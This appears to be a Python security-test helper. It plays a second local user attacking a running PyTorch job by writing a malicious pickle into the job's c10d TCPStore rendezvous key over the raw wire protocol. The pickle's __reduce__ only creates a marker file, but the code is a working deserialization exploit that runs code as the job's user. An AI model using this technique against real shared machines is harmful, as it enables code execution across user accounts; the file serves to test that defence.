"""Another local user attacking a running job through its c10d stores; stdlib only, no torch.

Run as that user (the test runs it as ``nobody``). It does what any local user can:

* finds the job's listening ports in ``/proc/net/tcp`` (world-readable); of those it touches only the ports
  named by ``--ports`` (this test's job: the machine is shared, and other jobs' stores are not ours to write);
* looks for the run id where torch's agent writes it, the start of a folder name under the log folder;
  ``--run-id`` adds the real one as if it had leaked anyway;
* writes, in a loop, a pickle whose ``__reduce__`` creates ``--marker`` (a file this user may not create
  itself: if it appears, the job's user made it) as the value of ``torch.rendezvous.<run_id>``, the key whose
  value torch's c10d rendezvous handler unpickles on every sync (base64, as torch's backend stores it).

Prints one JSON line: what it saw and did.
"""
import argparse
import base64
import json
import os
import pickle
import socket
import struct
import time

_MAGIC = 0x3C85F7CE  # TCPStore's validation number
_VALIDATE, _SET, _GET = 0, 1, 3


class _Payload:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return open, (self.marker, "w")


def listening_loopback_ports() -> set[int]:
    ports = set()
    with open("/proc/net/tcp") as fh:
        for line in fh.readlines()[1:]:
            local, _, state = line.split()[1:4]
            address, port = local.split(":")
            if state == "0A" and address == "0100007F":  # LISTEN on 127.0.0.1
                ports.add(int(port, 16))
    return ports


def store_set(port: int, key: str, value: bytes) -> None:
    """TCPStore's wire protocol: validate, SET (the client prefixes keys with '/'), GET to wait for the SET."""
    wire_key = ("/" + key).encode()
    with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
        sock.sendall(struct.pack("<BI", _VALIDATE, _MAGIC))
        sock.sendall(struct.pack("<BQ", _SET, len(wire_key)) + wire_key + struct.pack("<Q", len(value)) + value)
        sock.sendall(struct.pack("<BQ", _GET, len(wire_key)) + wire_key)
        size = struct.unpack("<Q", sock.recv(8))[0]
        while size > 0:
            size -= len(sock.recv(size))


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--ports", required=True)
    parser.add_argument("--logs", required=True)
    parser.add_argument("--run-id", required=True)
    parser.add_argument("--marker", required=True)
    parser.add_argument("--seconds", type=float, default=4.0)
    args = parser.parse_args()
    report = {"uid": os.getuid(), "ports": [], "logs_readable": False, "run_ids": [], "writes": 0, "errors": []}
    allowed = {int(p) for p in args.ports.split(",") if p}
    report["ports"] = sorted(listening_loopback_ports() & allowed)
    run_ids = {args.run_id}
    try:
        names = os.listdir(args.logs)
        report["logs_readable"] = True
        run_ids |= {name.rsplit("_", 1)[0] for name in names if "_" in name}
    except OSError as exc:
        report["errors"].append(f"logs: {exc.strerror}")
    report["run_ids"] = sorted(run_ids)
    value = base64.b64encode(pickle.dumps(_Payload(args.marker)))
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        for port in report["ports"]:
            for run_id in run_ids:
                try:
                    store_set(port, f"torch.rendezvous.{run_id}", value)
                    report["writes"] += 1
                except OSError as exc:
                    if len(report["errors"]) < 5:
                        report["errors"].append(f"port {port}: {exc}")
        time.sleep(0.05)
    print(json.dumps(report))


if __name__ == "__main__":
    main()
